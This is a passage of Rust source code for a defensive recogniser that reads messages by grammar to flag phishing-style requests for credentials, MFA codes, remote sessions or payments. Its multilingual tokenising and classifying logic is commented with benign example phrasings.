//! Requests and lures read by their grammar, not by phrase.
//!
//! A *request* is an act aimed at the reader (an imperative, "please", "could
//! you", "we need", "you must") over a sensitive object (credentials and
//! their parts, MFA factors, access and roles, remote sessions, software,
//! payment destinations and transfers, data), in one clause that is neither
//! negated ("we will never ask for your password"), hypothetical ("if
//! someone asks you..."), reported ("scammers may ask..."), nor quoted. A
//! *lure* is an offer or a scare tied to an action: a fake charge with a
//! number to call, a prize to claim, a job, a free upgrade, help nobody
//! asked for, time pressure, secrecy.
//!
//! The words come from the lexicon ([`crate::lexicon`]): ordinary vocabulary
//! by class, matched by Snowball stem, so inflections and word order vary
//! freely. Text is cut into clauses at sentence ends, paragraph breaks, and
//! at commas and conjunctions that open a new clause. Every finding names the
//! clause and the words that made it.
//!
//! Structured data counts as words do: a valid IBAN, an account or routing
//! number, a phone number next to "call".

use std::ops::Range;
use std::sync::LazyLock;

use memchr::memmem;

use crate::category::RiskCategory;
use crate::lexicon::{
    C, Classes, DE, EN, ES, FR, LANGUAGES, Lang, Lexicon, bits, class_names, noun_classes,
};
use crate::normalize::{Marks, SEGMENT_SEPARATOR, is_word_char};

/// The recogniser: the lexicon and the grammar over it.
#[derive(Debug)]
pub(crate) struct Recogniser {
    lexicon: Lexicon,
}

/// One thing recognised, with its evidence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Recognised {
    pub category: RiskCategory,
    /// The words that made it, by role ("act: please; verb: send; ...").
    pub why: String,
    /// The clause, as a byte range of the scanned buffer.
    pub clause: Range<usize>,
    /// A structured indicator the finding rests on (an IBAN, a phone number).
    pub indicator: Option<String>,
    /// A sign-in "as usual" on a linked page: a request only if the page
    /// is not one the reader already signs in to, which the caller, who
    /// knows the domains, decides ([`crate::RiskFinding::SIGN_IN_AS_USUAL`]).
    pub as_usual: bool,
}

/// What the grammar read in a message.
#[derive(Debug, Default)]
pub(crate) struct Reading {
    /// The requests and lures recognised.
    pub found: Vec<Recognised>,
    /// Byte ranges of the buffer where a request's words stand in a negated
    /// or reported clause ("we will never ask you to install ...", "they
    /// say they need your code"): a phrase found there asks nothing.
    pub muted: Vec<Range<usize>>,
    /// Byte ranges of clauses that describe what someone else can do
    /// ("admins can now reset a user's MFA", "Gruppenbesitzer können
    /// Mitglieder hinzufügen"): release notes and how-tos, not asks; no
    /// phrase of any category found there counts.
    pub described: Vec<Range<usize>>,
    /// Byte ranges of conditions that set a scene with someone else in it
    /// ("if a vendor's letter claims its account was moved, ..."):
    /// a request's phrase that starts there names the case, not an ask,
    /// even where it runs on into the clause after.
    pub scenes: Vec<Range<usize>>,
}

/// How strongly two tokens are separated.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default)]
enum Sep {
    #[default]
    None,
    Comma,
    Line,
    /// A parenthesis: always a clause of its own, not a new sentence.
    Paren,
    Sentence,
    Paragraph,
}

#[derive(Debug, Clone, Default)]
struct Tok {
    start: usize,
    end: usize,
    cls: Classes,
    lemma: [u32; 4],
    sep: Sep,
    /// Inside quotation marks: mentioned, not said.
    quoted: bool,
    /// Inside a quoted name of a word or three (a button, a role: choose
    /// "Help someone"): its function words do no grammar.
    label: bool,
    /// Covered by a multi-word unit that starts before it.
    covered: bool,
    /// Ends with a question mark.
    question: bool,
    /// Opened by an inverted question or exclamation mark ("¿", "¡"): what
    /// came before, up to the comma, is a clause of its own.
    inverted: bool,
    /// Followed by a colon: what follows (a list) continues it.
    colon: bool,
    digits: bool,
    /// A number written as an amount of money ("€ 4,800", "GBP 65 000").
    amount: bool,
    /// Inside parentheses: an aside, read as a clause of its own.
    aside: bool,
    /// Glued to the next word by a dot or slash: part of a name.
    glued: bool,
    /// Followed by a sentence's end (". ", "! ", "? ").
    stop: bool,
    /// Inside a line that reads as a heading of a digest: short, without
    /// a full stop, with prose under it (see `mark_headings`).
    heading: bool,
    /// A web address follows it, before the next word ("to start:
    /// https://..."): the text points the reader at a page.
    link: bool,
    /// That address is a program file ("https://.../setup.exe"): a program
    /// handed over.
    program_link: bool,
    /// Grammatical gender, where Spanish or French shows it: of an article
    /// or a clitic ("la", "lo", "pásamelo"), and of the noun right after
    /// an article. Lets a pronoun take up a noun of its own gender.
    gender: Gender,
}

/// See [`Tok::gender`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Gender {
    #[default]
    Unknown,
    Masculine,
    Feminine,
}

/// The most tokens read per message; beyond it the text is not prose.
const MAX_TOKENS: usize = 200_000;

const VERBS: &[C] = &[
    C::V_GIVE,
    C::V_RESET,
    C::V_DISABLE,
    C::V_ENROL,
    C::V_APPROVE,
    C::V_GRANT,
    C::V_INSTALL,
    C::V_CONNECT,
    C::V_PAY,
    C::V_CHANGE,
    C::V_EXPORT,
    C::V_CALL,
];

impl Recogniser {
    pub(crate) fn new(lexicon: Lexicon) -> Self {
        Recogniser { lexicon }
    }

    /// Reads `ranges` of `buffer` (folded text, with the line breaks and
    /// links' ends folding noted in `marks`).
    /// `phones` are the phone numbers the message contains.
    pub(crate) fn recognise(
        &self,
        buffer: &str,
        ranges: &[Range<usize>],
        marks: &Marks,
        phones: &[String],
        subject_end: usize,
    ) -> Reading {
        let (mut toks, quote_lines) = tokenize(buffer, ranges, marks);
        // Lines set off by ">" quote someone else (a scam shown in an
        // awareness mail, a reply's history): the grammar skips them, and
        // the rulebook's phrases found there are not the writer's either.
        if toks.is_empty() {
            return Reading {
                described: quote_lines,
                ..Reading::default()
            };
        }
        let langs = languages(buffer, &toks);
        self.classify(buffer, &mut toks, &langs);
        cut_salutations(&mut toks);
        let phone_at = phone_positions(buffer, &toks, phones);
        let clauses = clauses(&toks);
        let visible = Visible::of(&toks);
        let mut out = Reader {
            lexicon: &self.lexicon,
            may_command: true,
            follows_link: false,
            retold: Vec::new(),
            buffer,
            toks: &toks,
            visible: &visible,
            found: Vec::new(),
            muted: Vec::new(),
            described: Vec::new(),
            scenes: Vec::new(),
            langs: &langs,
            sentence_cls: 0,
            sentence_amount: false,
            sentence_usual: false,
            code_sent: false,
            threatened: false,
            number_given: false,
            familiar: false,
            subject_end,
            message_cls: toks.iter().fold(0, |a, t| a | t.cls),
        };
        out.read(&clauses, &phone_at);
        // Words between quotation marks are mentioned, not said: an
        // advisory's "typical script: \"please read me the code\"" asks
        // nothing, so the rulebook's phrases found there count no more than
        // the grammar reads them.
        // Lures' phrases too: a poster's slogan in quotation marks is not
        // the writer's own lure.
        let quoted = quoted_spans(&toks);
        out.muted.extend(quoted.iter().cloned());
        out.described.extend(quoted);
        out.described.extend(quote_lines);
        Reading {
            found: out.found,
            muted: out.muted,
            described: out.described,
            scenes: out.scenes,
        }
    }

    /// The clauses of `ranges` with the classes of their words and the
    /// request act found in each: what the grammar saw, for a person
    /// checking why something was or was not recognised.
    pub(crate) fn explain(&self, buffer: &str, ranges: &[Range<usize>], marks: &Marks) -> String {
        let subject_end = 0;
        let (mut toks, _) = tokenize(buffer, ranges, marks);
        let langs = languages(buffer, &toks);
        self.classify(buffer, &mut toks, &langs);
        cut_salutations(&mut toks);
        let visible = Visible::of(&toks);
        let reader = Reader {
            lexicon: &self.lexicon,
            may_command: true,
            follows_link: false,
            retold: Vec::new(),
            buffer,
            toks: &toks,
            visible: &visible,
            found: Vec::new(),
            muted: Vec::new(),
            described: Vec::new(),
            scenes: Vec::new(),
            langs: &langs,
            sentence_cls: 0,
            sentence_amount: false,
            sentence_usual: false,
            code_sent: false,
            threatened: false,
            number_given: false,
            familiar: false,
            subject_end,
            message_cls: toks.iter().fold(0, |a, t| a | t.cls),
        };
        let mut out = format!(
            "languages: {}\n",
            langs
                .iter()
                .map(|&l| LANGUAGES[l])
                .collect::<Vec<_>>()
                .join(", ")
        );
        for clause in clauses(&toks) {
            let v = View::of_clause(&toks, &visible, &clause);
            let act = reader
                .act(&v)
                .map(|(a, how)| format!("{how} \"{}\"", reader.word(a.at)));
            out.push_str(&format!(
                "[{}] {}\n",
                clause.sentence,
                act.unwrap_or_default()
            ));
            for i in v.idx() {
                let names = class_names(toks[i].cls);
                let word = &buffer[toks[i].start..toks[i].end];
                if names.is_empty() {
                    out.push_str(&format!("  {word}"));
                } else {
                    out.push_str(&format!("  {word}<{}>", names.join(",")));
                }
            }
            out.push('\n');
        }
        out
    }

    fn classify(&self, buffer: &str, toks: &mut [Tok], langs: &[Lang]) {
        let grammar = bits(&[
            C::ADDRESSEE,
            C::WRITER_OBJECT,
            C::WRITER_OWN,
            C::WRITER_SUBJECT,
            C::THIRD_PARTY,
            C::NEGATION,
            C::CONDITION,
            C::BENEFICIARY,
            C::PRONOUN,
            C::ARTICLE,
            C::CONJUNCTION,
            C::FILLER,
            C::MODAL,
            C::COURTESY,
            C::POLITE,
        ]);
        for t in toks.iter_mut() {
            if t.digits && t.end - t.start > 3 || t.glued {
                continue;
            }
            let word = &buffer[t.start..t.end];
            for (slot, &lang) in langs.iter().enumerate() {
                let e = self.lexicon.lookup(lang, word);
                // A second language lends its content words (English IT
                // vocabulary in a German mail), not its function words:
                // Spanish "he" is no English "he". Nor does it lend to the
                // first language's own function words: French "les" is no
                // Spanish word.
                let lent = if t.label {
                    e.classes & !grammar
                } else if slot == 0 {
                    e.classes
                } else if t.cls & grammar != 0 {
                    0
                } else if langs.len() == 2 {
                    e.classes & !grammar
                } else {
                    e.classes
                };
                t.cls |= lent;
                t.lemma[slot] = e.lemma;
            }
        }
        // A menu path ("Extras > Optionen > Konten", "Settings ->
        // Payables") names screens: its words are names, neither verbs
        // nor the things they name.
        let path_step = |from: usize, to: usize| {
            // Every step ends in '>' or in the last byte of '›' or '»':
            // the gaps between words (nearly all one space) are passed
            // over without slicing and trimming them.
            buffer
                .as_bytes()
                .get(from..to)
                .is_some_and(|gap| gap.iter().any(|&b| matches!(b, b'>' | 0xBA | 0xBB)))
                && matches!(
                    buffer.get(from..to).map(str::trim),
                    Some(">" | "->" | "=>" | "›" | "»")
                )
        };
        for i in 0..toks.len() {
            let before = i > 0 && path_step(toks[i - 1].end, toks[i].start);
            let after = i + 1 < toks.len() && path_step(toks[i].end, toks[i + 1].start);
            if before || after {
                toks[i].cls &= !(bits(VERBS) | noun_classes());
            }
        }
        // With the words' classes known, before anything reads sentences.
        join_ordinals(buffer, toks, langs.contains(&DE));
        if langs[0] == ES || langs[0] == FR {
            mark_gender(buffer, toks, langs[0] == FR);
        }
        jobs_applied_for(buffer, toks);
        if langs.contains(&DE) {
            courtesy_beside_writer(buffer, toks);
        }
        if langs.contains(&FR) {
            nous_after_subject(buffer, toks);
        }
        // "I'd like", "we'd like": the "would" of "would like" is glued to
        // its subject.
        if langs.contains(&EN) {
            for i in 1..toks.len() {
                if toks[i].sep == Sep::None
                    && &buffer[toks[i].start..toks[i].end] == "like"
                    && &buffer[toks[i - 1].start..toks[i - 1].end] == "d"
                    && buffer[..toks[i - 1].start].ends_with('\'')
                {
                    toks[i].cls |= C::NEED.bit();
                }
            }
        }
        // "Pagar a plazos" is paying in instalments, no deadline.
        if langs.contains(&ES) {
            for i in 1..toks.len() {
                if &buffer[toks[i].start..toks[i].end] == "plazos"
                    && &buffer[toks[i - 1].start..toks[i - 1].end] == "a"
                {
                    toks[i].cls &= !(C::URGENT.bit() | C::DEADLINE.bit());
                }
            }
            // "Contéstame con él": folded, the pronoun "él" is written as
            // the article; after "con", an article with no noun after it
            // (the clause ends, or "para", "y", "a" follow) is the pronoun
            // of a thing.
            for i in 1..toks.len() {
                if &buffer[toks[i].start..toks[i].end] != "el"
                    || toks[i - 1].cls & C::WITH.bit() == 0
                {
                    continue;
                }
                let bare = toks.get(i + 1).is_none_or(|n| {
                    n.sep >= Sep::Comma
                        || n.cls & bits(&[C::PURPOSE, C::CONJUNCTION, C::TOWARD]) != 0
                });
                if bare {
                    toks[i].cls = (toks[i].cls & !C::ARTICLE.bit()) | C::PRONOUN.bit();
                }
            }
        }
        // "Bitte gleich freigeben", "ich rufe gleich an", "die Unterlagen
        // bringe ich gleich vorbei": German "gleich" uninflected is "right away",
        // unless it is said of something ("bleibt gleich", "ist gleich",
        // "gleich wie vorher").
        if langs.contains(&DE) {
            for i in 0..toks.len() {
                let word = |j: usize| toks.get(j).map(|t| &buffer[t.start..t.end]);
                let said_of = i > 0
                    && matches!(
                        word(i - 1),
                        Some("bleibt" | "bleiben" | "ist" | "sind" | "geblieben")
                    )
                    || toks.get(i + 1).is_some_and(|n| n.sep == Sep::None)
                        && matches!(word(i + 1), Some("wie" | "geblieben" | "bleiben"));
                let right_away = word(i) == Some("gleich") && !said_of;
                // "mit der Zahl", "die Zahlen": after an article, a number,
                // not paying.
                if matches!(word(i), Some("zahl" | "zahlen"))
                    && i > 0
                    && toks[i - 1].cls & C::ARTICLE.bit() != 0
                {
                    toks[i].cls &= !C::V_PAY.bit();
                }
                if right_away {
                    toks[i].cls &= !C::UNCHANGED.bit();
                }
            }
        }
        // French "ne ... que" restricts, it does not negate: "il ne manque
        // que ta signature" (only your signature is missing).
        if langs.contains(&FR) {
            for i in 0..toks.len() {
                if !matches!(&buffer[toks[i].start..toks[i].end], "ne" | "n") {
                    continue;
                }
                // The first "que" or word of negation after it decides.
                let closing = toks[i + 1..]
                    .iter()
                    .take(6)
                    .take_while(|t| t.sep < Sep::Comma)
                    .find(|t| {
                        t.cls & C::NEGATION.bit() != 0
                            || matches!(&buffer[t.start..t.end], "que" | "qu")
                    })
                    .map(|t| &buffer[t.start..t.end]);
                if matches!(closing, Some("que" | "qu")) {
                    toks[i].cls &= !C::NEGATION.bit();
                }
            }
        }
        // German separable verbs: "fügen Sie mich der Gruppe hinzu",
        // "schalten Sie den Zugang frei". The particle closes the clause;
        // joined to a verb near the clause's start it makes the infinitive
        // the lexicon lists ("hinzufügen", "freischalten").
        if langs.contains(&DE) {
            for p in 1..toks.len() {
                let particle = &buffer[toks[p].start..toks[p].end];
                // The particle closes its clause: a separator or an "und"
                // follows ("führen Sie die Zahlung aus und melden ...").
                // An aside may stand before it: "laden Sie die Datei auf
                // den Server (Verzeichnis /in) hoch".
                if !SEPARABLE_PARTICLES.contains(&particle)
                    || toks
                        .get(p + 1)
                        .is_some_and(|n| n.sep < Sep::Comma && n.cls & C::CONJUNCTION.bit() == 0)
                    || !(toks[p].sep == Sep::None
                        || toks[p].sep == Sep::Line
                        || toks[p].sep == Sep::Paren && toks[p - 1].aside)
                {
                    continue;
                }
                // Mail is wrapped: a clause goes on across a line break.
                let in_clause = |t: &Tok| {
                    matches!(t.sep, Sep::None | Sep::Line) || t.aside || t.sep == Sep::Paren
                };
                let mut s = p;
                let mut words = 0;
                while s > 0 && in_clause(&toks[s]) && words < 20 {
                    words += usize::from(!toks[s].aside);
                    s -= 1;
                }
                // The verb opens the clause, follows its "und", or stands
                // before "Sie" after a fronted phrase ("für den Abgleich
                // melden Sie sich ... an").
                let you = C::ADDRESSEE.bit() | C::PRONOUN.bit();
                let starts: Vec<usize> = (s..p)
                    .filter(|&v| !toks[v].aside)
                    .filter(|&v| {
                        v < s + 3
                            || toks[v - 1].cls & C::CONJUNCTION.bit() != 0
                            || toks[v + 1].cls & you == you
                    })
                    .collect();
                // Not a word of a closed class ("ruft bitte den Service Desk
                // an": "den" + "an" is no verb).
                let closed = bits(&[C::ARTICLE, C::PRONOUN, C::FILLER, C::ADDRESSEE, C::POLITE]);
                for v in starts.into_iter().rev() {
                    let word = &buffer[toks[v].start..toks[v].end];
                    if word.len() > 24 || toks[v].digits || toks[v].cls & closed != 0 {
                        continue;
                    }
                    let e = self.lexicon.lookup(DE, &format!("{particle}{word}"));
                    let verbs = bits(VERBS) | C::V_SIGNIN.bit() | C::V_VERIFY.bit();
                    if e.classes & bits(VERBS) != 0 {
                        toks[v].cls |= e.classes & verbs;
                        break;
                    }
                }
            }
        }
        // Multi-word units, longest first; their classes replace their words'.
        let mut i = 0;
        while i < toks.len() {
            let mut matched = 0;
            'slots: for (slot, &lang) in langs.iter().enumerate() {
                let head = toks[i].lemma[slot];
                if head == 0 {
                    continue;
                }
                for unit in self.lexicon.units(lang, head) {
                    let n = unit.rest.len();
                    if i + n >= toks.len() {
                        continue;
                    }
                    let fits = unit.rest.iter().enumerate().all(|(k, &lemma)| {
                        let t = &toks[i + 1 + k];
                        t.lemma[slot] == lemma && t.sep <= Sep::Line
                    });
                    if fits {
                        toks[i].cls = unit.classes;
                        toks[i].end = toks[i + n].end;
                        for t in &mut toks[i + 1..=i + n] {
                            t.cls = 0;
                            t.covered = true;
                        }
                        matched = n;
                        break 'slots;
                    }
                    // An English phrasal verb takes its pronoun between
                    // verb and particle: "sort it out", "sort them
                    // out". The pronoun stays a word of its own, to be
                    // taken up.
                    let split = lang == EN
                        && n == 1
                        && i + 2 < toks.len()
                        && matches!(
                            &buffer[toks[i + 1].start..toks[i + 1].end],
                            "it" | "them" | "this" | "that"
                        )
                        && toks[i + 2].lemma[slot] == unit.rest[0]
                        // "A colleague will pick it up": takes the matter on.
                        && &buffer[toks[i].start..toks[i].end] != "pick"
                        && matches!(
                            &buffer[toks[i + 2].start..toks[i + 2].end],
                            "through" | "out" | "up" | "over" | "off" | "back" | "down" | "in" | "on"
                        )
                        && toks[i + 1].sep <= Sep::Line
                        && toks[i + 2].sep <= Sep::Line;
                    if split {
                        toks[i].cls = unit.classes;
                        toks[i + 2].cls = 0;
                        toks[i + 2].covered = true;
                        matched = 2;
                        break 'slots;
                    }
                }
            }
            i += 1 + matched;
        }
        gloss_objects(toks);
        // "The next payment run", "the payroll run": a run of payments, a
        // noun, not a program to run.
        if langs.first() == Some(&EN) {
            let money = bits(&[C::O_PAYMENT, C::TRANSACTION, C::O_PAYROLL]);
            for i in 1..toks.len() {
                if matches!(&buffer[toks[i].start..toks[i].end], "run" | "runs")
                    && toks[i].sep == Sep::None
                    && toks[i - 1].cls & money != 0
                    && !is_verb(toks[i - 1].cls)
                {
                    toks[i].cls &= !bits(VERBS);
                }
            }
        }
        // A verb of purpose ("click the link below to activate it", "pour
        // installer", "para instalar") says why, not what the reader is asked.
        let keeps = bits(&[
            C::ADDRESSEE,
            C::NEED,
            C::MUST,
            C::ASK,
            C::POLITE,
            C::MODAL,
            C::WRITER_OBJECT,
        ]);
        for i in 2..toks.len() {
            if !is_verb(toks[i].cls) || toks[i].sep != Sep::None || toks[i - 1].sep != Sep::None {
                continue;
            }
            let marker = &buffer[toks[i - 1].start..toks[i - 1].end];
            // The word before the marker, a multi-word unit by its head
            // ("would it be possible to install").
            let before = (0..i - 1)
                .rev()
                .find(|&j| !toks[j].covered)
                .unwrap_or(i - 2);
            if matches!(marker, "to" | "pour" | "para")
                && toks[before].cls & keeps == 0
                && !is_verb(toks[before].cls)
            {
                toks[i].cls &= !bits(VERBS);
            }
        }
        // Deadlines are built: a word such as "by", "within", "bis" and,
        // within four words of its clause, a day or month name, a date, or
        // a number of minutes, hours or days.
        for i in 0..toks.len() {
            if toks[i].cls & C::DEADLINE_PREP.bit() == 0 {
                continue;
            }
            let mut j = i + 1;
            while j < toks.len() && j <= i + 4 && toks[j].sep < Sep::Comma {
                let t = &toks[j];
                let date = t.digits && t.glued;
                // "in a day", "in einem Tag", "dans une semaine": one.
                let one = matches!(
                    &buffer[t.start..t.end],
                    "an" | "a" | "one" | "ein" | "eine" | "einer" | "einem" | "une" | "un" | "una"
                );
                let span = (t.digits || one)
                    && toks
                        .get(j + 1)
                        .is_some_and(|n| n.cls & C::TIME_UNIT.bit() != 0 && n.sep < Sep::Comma);
                // "In", "dans", "en" alone are places ("in Thursday's run"):
                // only "in 20 minutes" is a deadline.
                let bare = matches!(&buffer[toks[i].start..toks[i].end], "in" | "dans" | "en");
                if span || !bare && (t.cls & C::DAY_NAME.bit() != 0 || date) {
                    toks[i].cls |= C::DEADLINE.bit();
                    break;
                }
                j += 1;
            }
        }
        mark_remote_sessions(buffer, toks);
        // "GBP 65,000", "4.800 EUR": a number next to a currency is money.
        for i in 0..toks.len() {
            if toks[i].cls & C::CURRENCY.bit() != 0 {
                for j in [i.wrapping_sub(1), i + 1] {
                    if let Some(t) = toks.get_mut(j)
                        && t.digits
                    {
                        t.amount = true;
                    }
                }
            }
        }
    }
}

/// Objects a word in parentheses can name for the word before it: not a
/// device, person or payment (those gloss a word without making it the
/// object of a request).
const GLOSSED: &[C] = &[
    C::O_CREDENTIAL,
    C::O_CODE,
    C::O_MFA,
    C::O_ACCESS,
    C::O_ACCOUNT,
    C::O_REMOTE,
    C::O_SOFTWARE,
    C::O_PAY_DEST,
    C::O_DATA,
];

/// A word glossed by one object word in parentheses is that object: "den
/// Tresor (Passwortmanager)", "mon authentificateur (2FA)", "the vault
/// (password manager)". Writers explain their own word for a thing this way.
fn gloss_objects(toks: &mut [Tok]) {
    let glossed = bits(GLOSSED);
    let grammar_or_verb = bits(VERBS) | bits(&[C::ARTICLE, C::PRONOUN, C::FILLER, C::CONJUNCTION]);
    for i in 1..toks.len() {
        let opens_aside = toks[i].aside && toks[i].sep == Sep::Paren && !toks[i].covered;
        if !opens_aside || toks[i].cls & glossed == 0 {
            continue;
        }
        let alone = (i + 1..toks.len())
            .find(|&j| !toks[j].covered)
            .is_none_or(|j| !toks[j].aside || toks[j].sep >= Sep::Paren);
        let Some(word) = (0..i).rev().find(|&j| !toks[j].covered) else {
            continue;
        };
        let before = &toks[word];
        if alone && !before.aside && !before.digits && before.cls & (glossed | grammar_or_verb) == 0
        {
            toks[word].cls |= toks[i].cls & glossed;
        }
    }
}

/// A session opened to a machine is a remote one, whatever tool opens it:
/// "a RelayVue session to APP01", "eine Sitzung auf dem Server", "una
/// sesión en tu ordenador". The machine is a host or server, a name with
/// letters and digits ("tes01"), or the reader's own device; "a training
/// session on the new system" opens nothing.
fn mark_remote_sessions(buffer: &str, toks: &mut [Tok]) {
    // The `n` tokens from `from` on, up to the clause's next comma.
    let window = |toks: &[Tok], from: usize, n: usize| {
        let end = toks.len().min(from + n);
        from..(from + 1..end)
            .find(|&j| toks[j].sep >= Sep::Comma)
            .unwrap_or(end)
    };
    // Once a remote session is named (a subject "Remote session, Tuesday"),
    // a later "session" is that one: "can you start a DeskBridge session".
    let mut remote_named = false;
    for i in 0..toks.len() {
        if toks[i].cls & C::SESSION.bit() == 0 || toks[i].cls & C::O_REMOTE.bit() != 0 {
            remote_named |= toks[i].cls & C::O_REMOTE.bit() != 0 && !toks[i].quoted;
            continue;
        }
        if remote_named {
            toks[i].cls |= C::O_REMOTE.bit();
            continue;
        }
        // "une session ReachDesk de 20 minutes sur le serveur".
        let Some(to) = window(toks, i + 1, 5).find(|&j| toks[j].cls & C::TOWARD.bit() != 0) else {
            continue;
        };
        let machine = window(toks, to + 1, 5).any(|k| {
            let t = &toks[k];
            let word = &buffer[t.start..t.end];
            t.cls & C::O_HOST.bit() != 0
                || word.bytes().any(|b| b.is_ascii_digit())
                    && word.bytes().any(|b| b.is_ascii_alphabetic())
                || t.cls & C::O_DEVICE.bit() != 0
                    && (k.saturating_sub(2)..k).any(|r| toks[r].cls & C::READER_OWN.bit() != 0)
        });
        if machine {
            toks[i].cls |= C::O_REMOTE.bit();
        }
    }
}

/// Cuts the scanned ranges into word tokens, noting the punctuation between.
/// Also answers the spans of the lines set off by ">" that it leaves out
/// (consecutive ones as one span: a phrase may run over a line's end).
fn tokenize(buffer: &str, ranges: &[Range<usize>], marks: &Marks) -> (Vec<Tok>, Vec<Range<usize>>) {
    let breaks = &marks.breaks;
    let bytes = buffer.as_bytes();
    // About one word in six bytes of prose: grown once or twice, not a
    // dozen times.
    let text_bytes: usize = ranges.iter().map(|r| r.len()).sum();
    let mut toks: Vec<Tok> = Vec::with_capacity((text_bytes / 6).min(MAX_TOKENS));
    let mut quote_lines: Vec<Range<usize>> = Vec::new();
    // Ends the quoted line that started at `from`, if one did.
    let close_quote = |quote_lines: &mut Vec<Range<usize>>, from: &mut Option<usize>, to: usize| {
        let Some(start) = from.take() else {
            return;
        };
        match quote_lines.last_mut() {
            Some(last) if bytes[last.end..start].iter().all(|&b| b == b' ') => last.end = to,
            _ => quote_lines.push(start..to),
        }
    };
    let mut brk = 0;
    for range in ranges {
        let mut sep = Sep::Paragraph;
        let mut quoted = false;
        let mut line_start = true;
        let mut reply_quote = false;
        let mut quote_from: Option<usize> = None;
        let mut money = false;
        let mut aside = false;
        let mut aside_tokens = 0usize;
        let mut inverted = false;
        let mut i = range.start;
        while i < range.end && toks.len() < MAX_TOKENS {
            let b = bytes[i];
            if b < 0x80 {
                if b.is_ascii_alphanumeric() || b == b'_' {
                    let start = i;
                    i = word_end(buffer, i, range.end);
                    if &bytes[start..i] == b"www" && bytes.get(i) == Some(&b'.') {
                        while i < range.end && bytes[i] != b' ' && bytes[i] != 1 {
                            i += 1;
                        }
                        mark_link(&mut toks, range.start, &buffer[start..i]);
                        continue;
                    }
                    push_tok(&mut toks, buffer, start, i, sep, quoted, reply_quote);
                    aside_tokens += 1;
                    if aside_tokens > 40 {
                        aside = false;
                    }
                    if let Some(t) = toks.last_mut()
                        && t.start == start
                    {
                        t.aside = aside;
                        t.inverted = std::mem::take(&mut inverted);
                    }
                    if money && let Some(t) = toks.last_mut() {
                        t.amount = t.digits;
                    }
                    money = false;
                    sep = Sep::None;
                    line_start = false;
                    if bytes.get(i) == Some(&b'$')
                        && let Some(t) = toks.last_mut()
                    {
                        t.amount = t.digits;
                    }
                    continue;
                }
                if b != b' ' && b != b'$' {
                    money = false;
                }
                match b {
                    // A smiley (":)", ";-)", ":D") ends its sentence as a
                    // full stop would, and opens no aside.
                    b':' | b';'
                        if {
                            let face = bytes.get(i + 1..).unwrap_or_default();
                            let face = face.strip_prefix(b"-").unwrap_or(face);
                            matches!(face.first(), Some(b')' | b'(' | b'd' | b'p'))
                                && matches!(face.get(1), None | Some(b' ' | 1))
                        } =>
                    {
                        sep = sep.max(Sep::Sentence);
                        if let Some(t) = toks.last_mut() {
                            t.stop = true;
                        }
                        i += 2 + usize::from(bytes[i + 1] == b'-');
                        continue;
                    }
                    b'.' | b'!' | b'?' | b';' => {
                        let next = bytes.get(i + 1).copied();
                        // "//streams/dev/...": a path's dots end no sentence.
                        let path_dots = b == b'.' && {
                            let dots = bytes[..i].iter().rev().take_while(|&&c| c == b'.').count();
                            i > dots && bytes[i - dots - 1] == b'/'
                        };
                        if (matches!(next, None | Some(b' ') | Some(1) | Some(b'"') | Some(b')'))
                            || i + 1 >= range.end)
                            && !path_dots
                            && !(b == b'.' && next == Some(b' ') && abbreviated(buffer, &toks, i))
                        {
                            sep = sep.max(Sep::Sentence);
                            quoted = false;
                            if let Some(t) = toks.last_mut() {
                                t.stop = true;
                                t.question |= b == b'?';
                            }
                        }
                    }
                    b':' if bytes.get(i + 1) == Some(&b'/') && bytes.get(i + 2) == Some(&b'/') => {
                        // A URL: its words are an address, not prose.
                        if let Some(t) = toks.last()
                            && t.end == i
                        {
                            toks.pop();
                        }
                        let url_start = i;
                        while i < range.end && bytes[i] != b' ' && bytes[i] != 1 {
                            i += 1;
                        }
                        mark_link(&mut toks, range.start, &buffer[url_start..i]);
                        // "Sign in at https://portal.example. We never ask
                        // ...": the full stop the address swallowed still
                        // ends its sentence.
                        if i > url_start + 3 && matches!(bytes[i - 1], b'.' | b'!' | b'?') {
                            sep = sep.max(Sep::Sentence);
                            quoted = false;
                            if let Some(t) = toks.last_mut()
                                && t.start >= range.start
                            {
                                t.stop = true;
                            }
                        }
                        continue;
                    }
                    b'@' => {
                        // An email address: drop its local part, skip its domain.
                        if let Some(t) = toks.last()
                            && t.end == i
                        {
                            toks.pop();
                        }
                        while i < range.end && bytes[i] != b' ' && bytes[i] != 1 {
                            i += 1;
                        }
                        continue;
                    }
                    // A bullet opens a list item: a clause and a sentence of
                    // its own, never joined to the line before.
                    b'*' | b'-' if line_start => sep = sep.max(Sep::Sentence),
                    b',' | b'|' | b'*' => sep = sep.max(Sep::Comma),
                    // Inside a name ("P:\\Projekte", "10:30") a colon
                    // separates nothing.
                    b':' if i > range.start
                        && (matches!(bytes.get(i + 1), Some(b'\\') | Some(b'/'))
                            || bytes[i - 1].is_ascii_digit()
                                && bytes.get(i + 1).is_some_and(u8::is_ascii_digit)) => {}
                    b':' => {
                        if let Some(t) = toks.last_mut()
                            && sep == Sep::None
                        {
                            t.colon = true;
                        }
                        sep = sep.max(Sep::Comma)
                    }
                    b'(' | b'[' => {
                        sep = sep.max(Sep::Paren);
                        aside = true;
                        aside_tokens = 0;
                    }
                    b')' | b']' => {
                        sep = sep.max(Sep::Paren);
                        aside = false;
                    }
                    b'$' => money = true,
                    b'-' if matches!(bytes.get(i + 1), Some(b' ') | Some(b'-')) => {
                        sep = sep.max(Sep::Comma)
                    }
                    b'"' => {
                        quoted = !quoted;
                    }
                    b'>' if line_start => {
                        reply_quote = true;
                        quote_from.get_or_insert(i);
                    }
                    1 => {
                        sep = Sep::Paragraph;
                        quoted = false;
                        line_start = true;
                        reply_quote = false;
                        close_quote(&mut quote_lines, &mut quote_from, i);
                    }
                    b' ' => {
                        while brk < breaks.len() && breaks[brk].0 < i {
                            brk += 1;
                        }
                        if brk < breaks.len() && breaks[brk].0 == i {
                            let paragraph = breaks[brk].1;
                            sep = sep.max(if paragraph { Sep::Paragraph } else { Sep::Line });
                            if paragraph {
                                quoted = false;
                                aside = false;
                            }
                            line_start = true;
                            reply_quote = false;
                            close_quote(&mut quote_lines, &mut quote_from, i);
                        }
                    }
                    _ => {}
                }
                i += 1;
            } else {
                let len = char_len(b);
                if word_char_at(buffer, i) {
                    let start = i;
                    i = word_end(buffer, i, range.end);
                    push_tok(&mut toks, buffer, start, i, sep, quoted, reply_quote);
                    aside_tokens += 1;
                    if aside_tokens > 40 {
                        aside = false;
                    }
                    if let Some(t) = toks.last_mut()
                        && t.start == start
                    {
